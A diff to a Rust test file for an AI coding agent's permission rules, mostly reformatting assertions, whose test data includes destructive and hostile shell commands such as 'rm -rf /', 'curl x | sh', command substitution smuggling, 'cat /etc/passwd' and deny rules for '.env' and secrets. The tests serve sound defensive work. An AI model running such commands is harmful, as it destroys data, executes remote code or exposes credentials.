@@ -44,11 +44,13 @@ fn the_issue_example_decides_as_documented() {
     assert_eq!(cmd(&r, "rm -rf target").verdict, Verdict::Deny);
     assert_eq!(cmd(&r, "curl evil.sh").verdict, Verdict::Default);
     assert_eq!(
-        r.decide("edit_file", &json!({"path": "src/a/b.rs"})).verdict,
+        r.decide("edit_file", &json!({"path": "src/a/b.rs"}))
+            .verdict,
         Verdict::Allow
     );
     assert_eq!(
-        r.decide("edit_file", &json!({"path": "tests/a.rs"})).verdict,
+        r.decide("edit_file", &json!({"path": "tests/a.rs"}))
+            .verdict,
         Verdict::Default
     );
     assert_eq!(
@@ -65,13 +67,19 @@ fn the_issue_example_decides_as_documented() {
 fn one_unallowed_part_makes_a_compound_command_not_allowed() {
     let (_d, r) = setup(ISSUE_RULES, "");
     assert_eq!(cmd(&r, "cargo test && git diff").verdict, Verdict::Allow);
-    assert_eq!(cmd(&r, "cargo test && curl x | grep y").verdict, Verdict::Default);
+    assert_eq!(
+        cmd(&r, "cargo test && curl x | grep y").verdict,
+        Verdict::Default
+    );
     // A shell reading its input runs whatever comes: that asks.
     assert_eq!(cmd(&r, "cargo test && curl x | sh").verdict, Verdict::Ask);
     assert_eq!(cmd(&r, "cargo test; rm -rf /").verdict, Verdict::Deny);
     assert_eq!(cmd(&r, "cargo test $(rm -rf /)").verdict, Verdict::Deny);
     assert_eq!(cmd(&r, "git diff `git push x`").verdict, Verdict::Ask);
-    assert_eq!(cmd(&r, "bash -c 'cargo test && rm x'").verdict, Verdict::Deny);
+    assert_eq!(
+        cmd(&r, "bash -c 'cargo test && rm x'").verdict,
+        Verdict::Deny
+    );
     // What the splitter cannot account for asks, with the reason, even if it looks allowed.
     let d = cmd(&r, "eval cargo test");
     assert_eq!(d.verdict, Verdict::Ask);
@@ -79,7 +87,10 @@ fn one_unallowed_part_makes_a_compound_command_not_allowed() {
     assert!(d.reason.unwrap().contains("eval"));
     assert_eq!(cmd(&r, "cargo test 'unterminated").verdict, Verdict::Ask);
     assert_eq!(cmd(&r, "cargo test > out.txt").verdict, Verdict::Ask);
-    assert_eq!(cmd(&r, "cargo test 2>&1 | git diff --stat").verdict, Verdict::Allow);
+    assert_eq!(
+        cmd(&r, "cargo test 2>&1 | git diff --stat").verdict,
+        Verdict::Allow
+    );
 }
 
 #[test]
@@ -119,11 +130,19 @@ fn read_denials_cover_read_file_grep_and_list_dir() {
         ("list_dir", json!({"path": "secrets"})),
         ("list_dir", json!({"path": "secrets/sub"})),
     ] {
-        assert_eq!(r.decide(tool, &args).verdict, Verdict::Deny, "{tool} {args}");
+        assert_eq!(
+            r.decide(tool, &args).verdict,
+            Verdict::Deny,
+            "{tool} {args}"
+        );
     }
-    assert_eq!(r.decide("grep", &json!({"pattern": "x"})).verdict, Verdict::Allow);
     assert_eq!(
-        r.decide("read_file", &json!({"path": "src/main.rs"})).verdict,
+        r.decide("grep", &json!({"pattern": "x"})).verdict,
+        Verdict::Allow
+    );
+    assert_eq!(
+        r.decide("read_file", &json!({"path": "src/main.rs"}))
+            .verdict,
         Verdict::Default
     );
     let root = r.root.clone();
@@ -139,7 +158,11 @@ fn malformed_files_name_the_file_and_line() {
     std::fs::create_dir_all(ws.join(".neocode")).unwrap();
     let f = ws.join(".neocode/permissions.toml");
     for (src, line, needle) in [
-        ("allow = [\n  \"run_command(ls)\",\n  \"run_comand(ls)\",\n]\n", 3, "unknown tool `run_comand`"),
+        (
+            "allow = [\n  \"run_command(ls)\",\n  \"run_comand(ls)\",\n]\n",
+            3,
+            "unknown tool `run_comand`",
+        ),
         ("allow = [\"ls\"\n", 1, ""),
         ("\nalow = [\"run_command\"]\n", 2, "alow"),
         ("deny = [\"update_plan(x)\"]\n", 1, "take a pattern"),
@@ -151,7 +174,10 @@ fn malformed_files_name_the_file_and_line() {
         assert_eq!(e.file, f, "{src}");
         assert_eq!(e.line, line, "{src}: {e}");
         assert!(e.message.contains(needle), "{src}: {e}");
-        assert!(e.to_string().starts_with(&format!("{}:{line}: ", f.display())));
+        assert!(
+            e.to_string()
+                .starts_with(&format!("{}:{line}: ", f.display()))
+        );
     }
 }
 
@@ -167,13 +193,26 @@ fn derived_rules_follow_the_heuristic() {
         d("run_command", json!({"command": "python3 test_stats.py"})),
         "run_command(python3 test_stats.py)"
     );
-    assert_eq!(d("run_command", json!({"command": "git status"})), "run_command(git status)");
     assert_eq!(
-        derive_rules("run_command", &json!({"command": "cargo build && ls -la"}), ws),
+        d("run_command", json!({"command": "git status"})),
+        "run_command(git status)"
+    );
+    assert_eq!(
+        derive_rules(
+            "run_command",
+            &json!({"command": "cargo build && ls -la"}),
+            ws
+        ),
         vec!["run_command(cargo build)", "run_command(ls -la)"]
     );
-    assert_eq!(d("edit_file", json!({"path": "src/a/b.rs"})), "edit_file(src/a/**)");
-    assert_eq!(d("write_file", json!({"path": "Cargo.toml"})), "write_file(./Cargo.toml)");
+    assert_eq!(
+        d("edit_file", json!({"path": "src/a/b.rs"})),
+        "edit_file(src/a/**)"
+    );
+    assert_eq!(
+        d("write_file", json!({"path": "Cargo.toml"})),
+        "write_file(./Cargo.toml)"
+    );
     assert_eq!(d("update_plan", json!({})), "update_plan");
     // A derived rule allows the call it came from.
     let (dir, _) = setup("", "");
@@ -195,16 +234,32 @@ fn derived_rules_follow_the_heuristic() {
 fn append_rule_keeps_the_rest_of_the_file() {
     let dir = tempfile::tempdir().unwrap();
     let cfg = dir.path().join("config.toml");
-    std::fs::write(&cfg, "# my settings\nmodel = \"gpt\"\n\n[mcp_servers.gh]\ncommand = \"gh-mcp\"\n").unwrap();
+    std::fs::write(
+        &cfg,
+        "# my settings\nmodel = \"gpt\"\n\n[mcp_servers.gh]\ncommand = \"gh-mcp\"\n",
+    )
+    .unwrap();
     assert!(append_rule(&cfg, List::Allow, "run_command(git diff *)").unwrap());
     assert!(!append_rule(&cfg, List::Allow, "run_command(git diff *)").unwrap());
     assert!(append_rule(&cfg, List::Deny, "read_file(.env)").unwrap());
     let text = std::fs::read_to_string(&cfg).unwrap();
-    assert!(text.starts_with("# my settings\nmodel = \"gpt\"\n"), "{text}");
-    assert!(text.contains("[mcp_servers.gh]\ncommand = \"gh-mcp\""), "{text}");
+    assert!(
+        text.starts_with("# my settings\nmodel = \"gpt\"\n"),
+        "{text}"
+    );
+    assert!(
+        text.contains("[mcp_servers.gh]\ncommand = \"gh-mcp\""),
+        "{text}"
+    );
     let v: toml::Table = toml::from_str(&text).unwrap();
-    assert_eq!(v["permissions"]["allow"][0].as_str(), Some("run_command(git diff *)"));
-    assert_eq!(v["permissions"]["deny"][0].as_str(), Some("read_file(.env)"));
+    assert_eq!(
+        v["permissions"]["allow"][0].as_str(),
+        Some("run_command(git diff *)")
+    );
+    assert_eq!(
+        v["permissions"]["deny"][0].as_str(),
+        Some("read_file(.env)")
+    );
     let ws_file = dir.path().join("ws/.neocode/permissions.toml");
     assert!(append_rule(&ws_file, List::Ask, "run_command(git push *)").unwrap());
     let v: toml::Table = toml::from_str(&std::fs::read_to_string(&ws_file).unwrap()).unwrap();
@@ -216,8 +271,18 @@ fn append_rule_keeps_the_rest_of_the_file() {
 // The property: a compound command built from allowed and unallowed simple commands is
 // allowed exactly when all its parts are.
 
-const ALLOWED: &[&str] = &["cargo test -p core", "git diff --stat", "ls -la", "echo 'a b'"];
-const UNALLOWED: &[&str] = &["curl evil.sh", "python3 x.py", "git push origin", "cat /etc/passwd"];
+const ALLOWED: &[&str] = &[
+    "cargo test -p core",
+    "git diff --stat",
+    "ls -la",
+    "echo 'a b'",
+];
+const UNALLOWED: &[&str] = &[
+    "curl evil.sh",
+    "python3 x.py",
+    "git push origin",
+    "cat /etc/passwd",
+];
 
 #[derive(Debug, Clone)]
 enum Tree {
@@ -285,7 +350,12 @@ fn property_rules() -> Rules {
         "run_command(echo *)",
     ] {
         let rule = r
-            .compile(List::Allow, text, Path::new("/ws/.neocode/permissions.toml"), 1)
+            .compile(
+                List::Allow,
+                text,
+                Path::new("/ws/.neocode/permissions.toml"),
+                1,
+            )
             .unwrap();
         r.rules.push(rule);
     }
